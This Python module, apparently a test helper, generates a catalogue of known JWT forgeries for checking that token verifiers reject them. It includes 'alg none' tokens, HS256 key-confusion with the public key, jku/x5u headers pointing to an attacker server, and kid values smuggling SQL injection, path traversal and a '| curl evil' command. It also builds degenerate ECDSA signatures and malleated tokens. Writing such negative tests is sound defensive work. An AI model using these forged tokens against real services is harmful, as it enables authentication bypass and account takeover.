"""The attacks on signed tokens that are known from the literature, made with a genuine signer at hand.

Each is refused, whoever checks it; ``nearly`` is what the same hands make when they do everything right.
"""

from __future__ import annotations

import base64
import hmac
import json
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any, Protocol

import jwt
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature

ALGORITHMS = {"rsa": "RS256", "ec": "ES256", "ed": "EdDSA"}
P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


class Signer(Protocol):
    """Who signs: an identity provider, or a test that holds the keys."""

    def sign(self, kind: str, data: bytes) -> bytes:
        """A genuine signature over the bytes, by the key of that kind: rsa, ec, ed."""
        ...

    def jwk(self, kind: str) -> dict[str, Any]:
        """The public key of that kind, with its kid."""
        ...


def encoded(data: object) -> str:
    """Base64url without padding, of bytes as they are or of anything else as JSON."""
    raw = data if isinstance(data, bytes) else json.dumps(data).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


@dataclass(frozen=True)
class Forger:
    """Makes tokens of any header and claims. ``kinds``: the kinds of key that the signer has."""

    signer: Signer
    claims: Mapping[str, object]
    kinds: Sequence[str] = ("rsa", "ec", "ed")
    header_type: str = "JWT"
    known: dict[str, dict[str, Any]] = field(default_factory=dict)

    def jwk(self, kind: str) -> dict[str, Any]:
        """The signer's public key of that kind, asked for once."""
        if kind not in self.known:
            self.known[kind] = self.signer.jwk(kind)
        return self.known[kind]

    def header(self, kind: str) -> dict[str, object]:
        """The header as it should be."""
        return {"alg": ALGORITHMS[kind], "kid": self.jwk(kind)["kid"], "typ": self.header_type}

    def signed(self, kind: str, header: object = None, claims: object = None) -> str:
        """A token with a genuine signature over whatever it says."""
        header = self.header(kind) if header is None else header
        text = f"{encoded(header)}.{encoded(dict(self.claims) if claims is None else claims)}"
        return f"{text}.{encoded(self.signer.sign(kind, text.encode()))}"

    def nearly(self, kind: str) -> str:
        """A token with which nothing is wrong."""
        return self.signed(kind)

    def all(self, lure: str) -> dict[str, str]:
        """Every forgery by name. ``lure``: the address of an attacker's server, which nobody should ask."""
        found: dict[str, str] = {}
        for kind in self.kinds:
            for name, token in (
                *self._unsigned(kind),
                *self._confused(kind),
                *self._headers(kind, lure),
                *self._times(kind),
                *self._claims(kind),
                *self._doubles(kind),
                *self._shapes(kind),
            ):
                found[f"{kind}: {name}"] = token
        if "ec" in self.kinds:
            found |= self._curve()
        return found

    def _with(self, kind: str, header: Mapping[str, object], signature: bytes | None = None) -> str:
        text = f"{encoded(self.header(kind) | header)}.{encoded(dict(self.claims))}"
        return f"{text}.{encoded(self.signer.sign(kind, text.encode()) if signature is None else signature)}"

    def _unsigned(self, kind: str) -> Iterator[tuple[str, str]]:
        for algorithm in ("none", "None", "NONE", "nOnE", "", " none", "null"):
            yield f"alg {algorithm!r} without signature", self._with(kind, {"alg": algorithm}, b"")
            yield f"alg {algorithm!r} with a byte", self._with(kind, {"alg": algorithm}, b"\0")
        yield "no signature", self._with(kind, {}, b"")
        text = self.nearly(kind).rsplit(".", 1)[0]
        yield "no third part", text
        yield "zeros for a signature", f"{text}.{encoded(bytes(len(self.signer.sign(kind, b'x'))))}"

    def _confused(self, kind: str) -> Iterator[tuple[str, str]]:
        key = self.jwk(kind)
        public = jwt.PyJWK(key, ALGORITHMS[kind]).key
        pem = public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
        der = public.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
        jwk = json.dumps(key).encode()
        secrets = {"PEM": pem, "PEM without its last newline": pem.strip(), "DER": der, "JWK": jwk, "nothing": b""}
        for name, secret in secrets.items():
            text = f"{encoded(self.header(kind) | {'alg': 'HS256'})}.{encoded(dict(self.claims))}"
            yield f"HS256 with the {name}", f"{text}.{encoded(hmac.digest(secret, text.encode(), 'sha256'))}"
        for other in ALGORITHMS.values():
            if other != ALGORITHMS[kind]:
                yield f"says {other}", self._with(kind, {"alg": other})
        for other in self.kinds:
            if other != kind:
                yield f"under the kid of {other}", self._with(kind, {"kid": self.jwk(other)["kid"]})
        text = f"{encoded(self.header(kind))}.{encoded(dict(self.claims))}"
        mine = ed25519.Ed25519PrivateKey.generate()
        yield "signed by another's key", f"{text}.{encoded(mine.sign(text.encode()))}"

    def _headers(self, kind: str, lure: str) -> Iterator[tuple[str, str]]:
        mine = ed25519.Ed25519PrivateKey.generate()
        raw = mine.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
        jwk = {"kty": "OKP", "crv": "Ed25519", "x": encoded(raw), "kid": "mine", "use": "sig", "alg": "EdDSA"}
        for name, member in {"jwk": jwk, "jku": f"{lure}/jwks", "x5u": f"{lure}/x5u", "x5c": ["AAAA"]}.items():
            for kid in ("mine", f"{lure}/jwks"):
                header = {"alg": "EdDSA", "kid": kid, "typ": self.header_type, name: member}
                text = f"{encoded(header)}.{encoded(dict(self.claims))}"
                yield f"own key by {name}, kid {kid[:4]}", f"{text}.{encoded(mine.sign(text.encode()))}"
            yield f"{name} in a genuine token", self._with(kind, {name: member})
        yield "crit", self._with(kind, {"crit": ["exp"], "exp": 1})
        yield "crit of b64", self._with(kind, {"crit": ["b64"], "b64": True})
        yield "empty crit", self._with(kind, {"crit": []})
        yield "b64 false", self._with(kind, {"b64": False})
        yield "compressed", self._with(kind, {"zip": "DEF"})
        yield "nested by cty", self._with(kind, {"cty": "JWT"})
        yield "encrypted in name", self._with(kind, {"enc": "A256GCM"})
        for kid in (
            "unknown", "", "../../../../dev/null", "/dev/null", "file:///dev/null", f"{lure}/jwks", "' OR 1=1 --",
            "a' UNION SELECT 'secret' --", "| curl evil", "rsa-1\0", "\0", "k" * 5000, "é", None, 1, ["rsa-1"], {},
        ):  # fmt: skip
            yield f"kid {str(kid)[:30]!r}", self._with(kind, {"kid": kid})
        without = {name: value for name, value in self.header(kind).items() if name != "kid"}
        yield "no kid", self.signed(kind, header=without)
        for algorithm in (None, 256, [ALGORITHMS[kind]], ALGORITHMS[kind].lower(), ALGORITHMS[kind] + " "):
            yield f"alg {algorithm!r}", self._with(kind, {"alg": algorithm})
        for value in ("JWE", "dpop+jwt", "logout+jwt", "", 1, ["JWT"]):
            yield f"typ {value!r}", self._with(kind, {"typ": value})

    def _times(self, kind: str) -> Iterator[tuple[str, str]]:
        now = float(str(self.claims["iat"]))
        changes: Mapping[str, object] = {
            "expired": {"iat": now - 7200, "exp": now - 3600},
            "expired in 1970": {"exp": 0},
            "expires before all time": {"exp": -1e300},
            "not yet valid": {"nbf": now + 3600},
            "issued in the far future": {"iat": now + 10 * 365 * 86_400, "exp": now + 11 * 365 * 86_400},
            "issued after it is used": {"iat": now + 3600},
        }
        for name, change in changes.items():
            yield name, self.signed(kind, claims=dict(self.claims) | dict(change))  # type: ignore[call-overload]
        for name in ("exp", "nbf", "iat"):
            for value in ("9999999999", None, True, [now + 60], {"$gt": 0}, float("nan"), float("inf"), 1e308, 10**400):
                shown = str(value)[:20]
                yield f"{name} {shown}", self.signed(kind, claims=dict(self.claims) | {name: value})
        yield "no exp", self._without(kind, "exp")

    def _without(self, kind: str, name: str) -> str:
        return self.signed(kind, claims={key: value for key, value in self.claims.items() if key != name})

    def _claims(self, kind: str) -> Iterator[tuple[str, str]]:
        audience, issuer = str(self.claims["aud"]), str(self.claims["iss"])
        wrong: dict[str, Sequence[object]] = {
            "aud": (
                "other", "", [], ["other"], [audience, 1], {audience: 1}, None, audience + "/", audience.upper(),
                [[audience]],
            ),
            "iss": (
                "https://evil.test", "", None, [issuer], issuer + "/", issuer.upper(), issuer + "@evil.test",
                issuer + "\0",
            ),
            "sub": ("", None, 7, ["alice"], {"a": 1}),
        }  # fmt: skip
        for name, values in wrong.items():
            for value in values:
                yield f"{name} {value!r}", self.signed(kind, claims=dict(self.claims) | {name: value})
            yield f"no {name}", self._without(kind, name)

    def _doubles(self, kind: str) -> Iterator[tuple[str, str]]:
        header, claims = json.dumps(self.header(kind)), json.dumps(dict(self.claims))
        for name in ("sub", "exp", "aud", "iss"):
            again = json.dumps({name: self.claims[name]})[1:-1]
            yield f"{name} twice", self.signed(kind, claims=f"{claims[:-1]}, {again}}}".encode())
            other = json.dumps({name: "admin"})[1:-1]
            yield f"{name} first another", self.signed(kind, claims=f"{{{other}, {claims[1:]}".encode())
        yield "alg twice", self.signed(kind, header=f'{{"alg": "none", {header[1:]}'.encode())
        yield "kid twice", self.signed(kind, header=f'{header[:-1]}, "kid": "mine"}}'.encode())
        for constant in ("NaN", "Infinity"):
            yield f"{constant} elsewhere", self.signed(kind, claims=f'{claims[:-1]}, "x": {constant}}}'.encode())
        spelled = '"s\\u0075b": "admin"'
        yield "sub twice, once escaped", self.signed(kind, claims=f"{claims[:-1]}, {spelled}}}".encode())

    def _shapes(self, kind: str) -> Iterator[tuple[str, str]]:
        token = self.nearly(kind)
        header, payload, signature = token.split(".")
        yield "encrypted in form", f"{header}.AAAA.{payload}.AAAA.{signature}"
        yield "in JSON form", json.dumps({"payload": payload, "protected": header, "signature": signature})
        yield "nested", self.signed(kind, claims=token.encode())
        yield "nested as text", self.signed(kind, claims=json.dumps(token).encode())
        for name, payload_of in {
            "a list": [dict(self.claims)], "a text": "sub", "a number": 5, "null": b"null", "nothing": b"",
            "no UTF-8": b"\xff\xfe", "UTF-16": json.dumps(dict(self.claims)).encode("utf-16"),
            "with a byte order mark": b"\xef\xbb\xbf" + json.dumps(dict(self.claims)).encode(),
            "deep lists": b"[" * 5000, "deep objects": b'{"a":' * 2000, "followed by more": b"{}{}",
            "deep and closed": b'{"a":' + b"[" * 4000 + b"]" * 4000 + b"}",
        }.items():  # fmt: skip
            yield f"claims are {name}", self.signed(kind, claims=payload_of)
        yield "huge", self.signed(kind, claims=dict(self.claims) | {"x": "x" * 30_000})
        yield "padded", token + "=" * (-len(signature) % 4 or 4)
        yield "payload padded", f"{header}.{payload}=.{signature}"
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
        if len(signature) % 4:  # the last character has bits that stand for nothing
            other = alphabet[alphabet.index(signature[-1]) ^ 1]
            yield "spare bits set", token[:-1] + other
        yield "standard alphabet", f"{header}.{payload}.+/{signature[2:]}"
        yield "a newline within", f"{header}.{payload}.\n{signature}"
        yield "a blank within", f"{header}. {payload}.{signature}"
        yield "signature twice", f"{token}.{signature}"
        yield "signature longer", f"{header}.{payload}.{signature}AAAA"
        yield "signature shorter", f"{header}.{payload}.{signature[:-4]}"
        changed = encoded(dict(self.claims) | {"sub": "admin"})
        yield "claims changed", f"{header}.{changed}.{signature}"

    def _curve(self) -> dict[str, str]:
        """What only the curve's signatures know: two numbers r and s."""
        text = self.nearly("ec").rsplit(".", 1)[0]
        r, s = (int.from_bytes(part, "big") for part in _halves(self.signer.sign("ec", text.encode())))
        zero, order = bytes(32), P256_ORDER.to_bytes(32, "big")
        one = (1).to_bytes(32, "big")
        other = ec.generate_private_key(ec.SECP384R1())
        found = {
            "r = s = 0": zero + zero,
            "r = 0": zero + one,
            "s = 0": one + zero,
            "r = s = order": order + order,
            "r = s = 1": one + one,
            "r and s swapped": s.to_bytes(32, "big") + r.to_bytes(32, "big"),
            "DER instead of raw": encode_dss_signature(r, s),
            "longer r and s": r.to_bytes(33, "big") + s.to_bytes(33, "big"),
            "signed on another curve": _raw(other.sign(text.encode(), ec.ECDSA(hashes.SHA256())), 48),
        }
        return {f"ec: {name}": f"{text}.{encoded(signature)}" for name, signature in found.items()}

    def malleated(self) -> str:
        """The one change of a token that anybody can make and that leaves it genuine: s becomes order - s."""
        text, signature = self.nearly("ec").rsplit(".", 1)
        raw = base64.urlsafe_b64decode(signature + "=" * (-len(signature) % 4))
        r, s = (int.from_bytes(part, "big") for part in _halves(raw))
        return f"{text}.{encoded(r.to_bytes(32, 'big') + (P256_ORDER - s).to_bytes(32, 'big'))}"


def _halves(signature: bytes) -> tuple[bytes, bytes]:
    return signature[:32], signature[32:]


def _raw(signature: bytes, size: int) -> bytes:
    r, s = decode_dss_signature(signature)
    return r.to_bytes(size, "big") + s.to_bytes(size, "big")
